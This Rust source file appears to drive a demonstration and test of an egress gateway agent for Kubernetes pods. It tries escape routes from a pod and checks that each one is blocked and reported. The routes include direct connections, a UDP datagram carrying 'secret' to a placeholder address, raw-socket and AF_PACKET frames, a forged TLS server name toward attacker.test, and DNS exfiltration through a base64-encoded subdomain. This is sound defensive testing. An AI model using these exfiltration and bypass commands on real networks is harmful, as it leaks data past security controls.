//! The show: first without the agent, then with it.

use std::net::IpAddr;

use anyhow::Result;
use egress_tests::{
    agent::{Agent, Config},
    exec::Exec,
    internet::{address4, addresses},
    pod::Pod,
    process::Finished,
    records::Record,
    scene::Scene,
    tools,
    world::nowhere4,
};

use crate::screen::{Outcome, Screen};

/// An address that no name has and no policy names.
const ELSEWHERE: &str = "198.51.100.7";

/// Plays it all; returns whether everything was as it should be.
pub(crate) fn show() -> Result<bool> {
    let scene = Scene::new()?;
    let other = scene.world.pod("shop/reports")?;
    let mut screen = Screen::new();
    screen.heading("egress-agent: the gateway is the only way out of a pod");
    screen.tell(
        "\n  pod shop/orders  10.1.1.5 ─┐\n\
         \x20                            ├─ node 192.0.2.2 ── internet: allowed.test, denied.test, …\n\
         \x20 pod shop/reports 10.1.2.5 ─┘\n\n\
         Network namespaces, veths and cgroups of this machine; real servers; nothing leaves them.",
    );
    let mut stage = Stage {
        next_hop: scene.world.node.hardware_address(&scene.pod.interface)?,
        authority: scene.world.internet.authority().display().to_string(),
        attack: tools::attack()?.display().to_string(),
        screen: &mut screen,
        scene: &scene,
    };
    stage.without_the_agent()?;

    let config = Config::default();
    stage.screen.heading("With egress-agent");
    stage.screen.tell(
        "  EgressPolicy shop/orders allows its service account allowed.test, repo.test, *.cdn.test;\n\
         \x20 shop/reports has no rule at all.",
    );
    let mut agent = Agent::start(&scene.world, &config, &[&scene.pod, &other])?;
    scene.capture.clear();
    stage.names(&agent, &other)?;
    stage.ways_around(&agent)?;
    stage.killed(&mut agent)?;
    drop(agent);
    stage
        .screen
        .heading("One command, with a gateway of its own");
    stage.one_command()?;
    Ok(screen.table())
}

/// What every act needs.
struct Stage<'a> {
    screen: &'a mut Screen,
    scene: &'a Scene,
    next_hop: String,
    authority: String,
    attack: String,
}

/// A way around the gateway.
struct Way {
    title: &'static str,
    should: &'static str,
    line: Vec<String>,
    /// As one would type it.
    shown: String,
    kind: &'static str,
}

impl Stage<'_> {
    fn without_the_agent(&mut self) -> Result<()> {
        self.screen.heading("Without it: everything gets out");
        let elsewhere = nowhere4(7);
        for way in self.ways() {
            self.screen.command("orders", way.title, &way.shown);
            self.scene.capture.clear();
            self.run(&way.line)?;
            let arrived = self.scene.arrived(elsewhere)?.len();
            self.screen.outcome(Outcome {
                tried: way.title,
                should: "arrives (no agent)",
                did: format!("{} arrived", packets(arrived)),
                ok: arrived > 0,
            });
        }
        Ok(())
    }

    /// Names: by server name, by identity, and by DNS.
    fn names(&mut self, agent: &Agent<'_>, other: &Pod) -> Result<()> {
        let page = self.curl("an allowed name", "https://allowed.test/", None)?;
        let by_gateway = page.stdout.contains("name=allowed.test")
            && !page.stdout.contains(&self.scene.pod.address4.to_string());
        let record = self.record(agent, "connection.close", |r| {
            r.text("/server_name") == "allowed.test"
        })?;
        self.screen.outcome(Outcome {
            tried: "an allowed name",
            should: "the page, by the gateway, recorded",
            did: format!(
                "{}, {} bytes in, as {}",
                if by_gateway {
                    "the page, by the gateway"
                } else {
                    "no page"
                },
                record.number("/bytes_received"),
                record.endpoint(),
            ),
            ok: by_gateway && record.number("/bytes_received") > 0,
        });
        self.denied_name(agent)?;
        self.forged_name(agent)?;
        self.another_workload(agent, other)?;
        self.leak_by_dns(agent)
    }

    fn denied_name(&mut self, agent: &Agent<'_>) -> Result<()> {
        let address = address4("denied.test");
        let resolve = format!("denied.test:443:{address}");
        let page = self.curl("a denied name", "https://denied.test/", Some(&resolve))?;
        self.record(agent, "connection.open", |r| {
            r.text("/server_name") == "denied.test"
        })?;
        let alert = page.stderr.contains("alert");
        let arrived = self.arrived(&addresses("denied.test"))?;
        self.screen.outcome(Outcome {
            tried: "a denied name",
            should: "a TLS alert at once, 0 packets",
            did: format!(
                "{} after {} ms, {arrived} packets",
                if alert { "a TLS alert" } else { "no alert" },
                page.took.as_millis(),
            ),
            ok: alert && arrived == 0 && page.took.as_secs() < 2,
        });
        Ok(())
    }

    fn forged_name(&mut self, agent: &Agent<'_>) -> Result<()> {
        let attacker = address4("attacker.test");
        let connect = format!("{attacker}:443");
        let line = [
            "openssl",
            "s_client",
            "-connect",
            &connect,
            "-servername",
            "allowed.test",
            "-CAfile",
            &self.authority,
            "-verify_return_error",
            "-brief",
        ]
        .map(str::to_owned);
        let shown = format!("openssl s_client -connect {attacker}:443 -servername allowed.test");
        self.screen
            .command("orders", "a forged server name", &shown);
        let done = self.run(&line)?;
        self.screen.output(&done.text());
        let record = self.record(agent, "connection.open", |r| r.is_to(attacker.into()))?;
        let upstream = record.text("/upstream").to_owned();
        let real = addresses("allowed.test")
            .iter()
            .any(|real| std::net::SocketAddr::new(*real, 443).to_string() == upstream);
        let arrived = self.arrived(&[attacker.into()])?;
        self.screen.outcome(Outcome {
            tried: "a forged server name",
            should: "goes where the name lives, 0 packets to the attacker",
            did: format!("went to {upstream}, {arrived} packets to the attacker"),
            ok: real && arrived == 0 && record.0["mismatch"] == true,
        });
        Ok(())
    }

    fn another_workload(&mut self, agent: &Agent<'_>, other: &Pod) -> Result<()> {
        let resolve = format!("allowed.test:443:{}", address4("allowed.test"));
        let shown = "curl https://allowed.test/";
        self.screen
            .command("reports", "another workload, the same name", shown);
        let line = [
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--cacert",
            &self.authority,
            "--resolve",
            &resolve,
            "https://allowed.test/",
        ];
        let done = other.run(&line)?;
        self.screen.output(&done.text());
        let record = self.record(agent, "connection.open", |r| r.endpoint() == other.name)?;
        self.screen.outcome(Outcome {
            tried: "another workload",
            should: "denied: identity is the kernel's",
            did: format!("{} as {}", denied(&done), record.endpoint()),
            ok: !done.status.success() && record.verdict() == "deny",
        });
        Ok(())
    }

    fn leak_by_dns(&mut self, agent: &Agent<'_>) -> Result<()> {
        let name = "c2VjcmV0.attacker.test";
        let shown = format!("getent hosts {name}");
        self.screen
            .command("orders", "a name that only DNS would leak", &shown);
        let done = self.run(&["getent", "hosts", name].map(str::to_owned))?;
        self.record(agent, "dns", |r| r.text("/name").contains("attacker.test"))?;
        let asked = self.scene.world.internet.dns.queries()?;
        let leaked = asked
            .iter()
            .filter(|query| query.contains("attacker"))
            .count();
        self.screen.outcome(Outcome {
            tried: "a name that only DNS would leak",
            should: "refused, 0 queries outside",
            did: format!("{}, {leaked} queries outside", denied(&done)),
            ok: !done.status.success() && leaked == 0,
        });
        Ok(())
    }

    fn ways_around(&mut self, agent: &Agent<'_>) -> Result<()> {
        let elsewhere = nowhere4(7);
        for way in self.ways() {
            self.screen.command("orders", way.title, &way.shown);
            let before = agent.records.all()?.len();
            let done = self.run(&way.line)?;
            self.screen.output(&done.text());
            let fresh = agent.records.wait_for("a report", |record| {
                record.kind() == way.kind
                    && record.is_to(elsewhere)
                    && is_new(agent, record, before)
            });
            let reason = match &fresh {
                Ok(record) => {
                    self.screen.record(record);
                    record.reason().to_owned()
                }
                Err(_) => "nothing".to_owned(),
            };
            let arrived = self.arrived(&[elsewhere])?;
            self.screen.outcome(Outcome {
                tried: way.title,
                should: way.should,
                did: format!("{}, reported as {reason}", packets(arrived)),
                ok: arrived == 0 && fresh.is_ok(),
            });
        }
        Ok(())
    }

    fn killed(&mut self, agent: &mut Agent<'_>) -> Result<()> {
        let shown = format!(
            "kill -9 {}   # the agent; then the same datagram",
            agent.pid()?
        );
        self.screen.command("node", "the agent is killed", &shown);
        agent.kill()?;
        let line = ["bash", "-c", "echo secret > /dev/udp/198.51.100.7/4000"].map(str::to_owned);
        let done = self.run(&line)?;
        self.screen.output(&done.text());
        let arrived = self.arrived(&[nowhere4(7)])?;
        self.screen.outcome(Outcome {
            tried: "the agent is killed",
            should: "0 packets: the kernel goes on",
            did: packets(arrived),
            ok: arrived == 0,
        });
        Ok(())
    }

    fn one_command(&mut self) -> Result<()> {
        let script = format!(
            "curl -sS https://allowed.test/; curl -sS https://denied.test/; \
             echo secret > /dev/udp/{ELSEWHERE}/4000"
        );
        let title = "a command of the node";
        let shown = "egress-agent exec --allow allowed.test -- ./build.sh";
        self.screen.command("node", title, shown);
        self.scene.capture.clear();
        let exec = Exec::new(&self.scene.world, &["--allow", "allowed.test"]);
        let done = exec.run(&["bash", "-c", &script])?;
        self.screen.last_lines(&done.text(), 7);
        let summary = "1 allowed, 2 denied, 1 dropped";
        let page = done.stdout.contains("name=allowed.test");
        let arrived = self.arrived(&[nowhere4(7)])?;
        self.screen.outcome(Outcome {
            tried: title,
            should: "the page, the rest denied and summed up",
            did: format!(
                "{}, {}, {}",
                if page { "the page" } else { "no page" },
                if done.stderr.contains(summary) {
                    summary
                } else {
                    "another summary"
                },
                packets(arrived),
            ),
            ok: page && done.stderr.contains(summary) && arrived == 0,
        });
        Ok(())
    }

    fn ways(&self) -> [Way; 5] {
        let Self {
            attack, next_hop, ..
        } = self;
        let own = self.scene.pod.address4.to_string();
        let udp = format!("echo secret > /dev/udp/{ELSEWHERE}/4000");
        let line = |text: String| text.split(' ').map(str::to_owned).collect();
        [
            Way {
                title: "a direct connection",
                should: "0 packets, denied at the gateway",
                line: line(format!("curl -sS --max-time 5 http://{ELSEWHERE}:8443/")),
                shown: format!("curl http://{ELSEWHERE}:8443/"),
                kind: "connection.open",
            },
            Way {
                title: "a UDP datagram",
                should: "0 packets, reported",
                line: vec!["bash".into(), "-c".into(), udp.clone()],
                shown: udp,
                kind: "bypass",
            },
            Way {
                title: "a ping",
                should: "0 packets, reported",
                line: line(format!("ping -c 1 -W 1 {ELSEWHERE}")),
                shown: format!("ping -c 1 {ELSEWHERE}"),
                kind: "bypass",
            },
            Way {
                title: "a raw socket",
                should: "0 packets, reported",
                line: line(format!("{attack} raw {ELSEWHERE} 47")),
                shown: format!("attack raw {ELSEWHERE} 47   # GRE, by SOCK_RAW"),
                kind: "bypass",
            },
            Way {
                title: "an AF_PACKET frame",
                should: "0 packets, reported",
                line: line(format!(
                    "{attack} frame eth0 {next_hop} {own} {ELSEWHERE} 5000"
                )),
                shown: format!("attack frame eth0 {ELSEWHERE} 5000   # a whole Ethernet frame"),
                kind: "bypass",
            },
        ]
    }

    fn curl(&mut self, title: &str, url: &str, resolve: Option<&str>) -> Result<Finished> {
        let shown = match resolve {
            Some(resolve) => format!("curl --resolve {resolve} {url}"),
            None => format!("curl {url}"),
        };
        self.screen.command("orders", title, &shown);
        let mut arguments = Vec::new();
        if let Some(resolve) = resolve {
            arguments.extend(["--resolve", resolve]);
        }
        arguments.push(url);
        let done = self.scene.curl(&arguments)?;
        self.screen.output(&done.text());
        Ok(done)
    }

    fn run(&self, line: &[String]) -> Result<Finished> {
        self.scene.pod.run(line)
    }

    fn record(
        &self,
        agent: &Agent<'_>,
        kind: &str,
        wanted: impl Fn(&Record) -> bool,
    ) -> Result<Record> {
        let record = agent
            .records
            .wait_for(kind, |record| record.kind() == kind && wanted(record))?;
        self.screen.record(&record);
        Ok(record)
    }

    fn arrived(&self, addresses: &[IpAddr]) -> Result<usize> {
        let mut count = 0;
        for address in addresses {
            count += self.scene.arrived(*address)?.len();
        }
        Ok(count)
    }
}

/// Whether the record is none of the first `before`.
fn is_new(agent: &Agent<'_>, record: &Record, before: usize) -> bool {
    agent
        .records
        .all()
        .is_ok_and(|all| all.iter().skip(before).any(|other| other.0 == record.0))
}

fn packets(count: usize) -> String {
    match count {
        1 => "1 packet".to_owned(),
        _ => format!("{count} packets"),
    }
}

fn denied(done: &Finished) -> &'static str {
    if done.status.success() {
        "allowed"
    } else {
        "denied"
    }
}
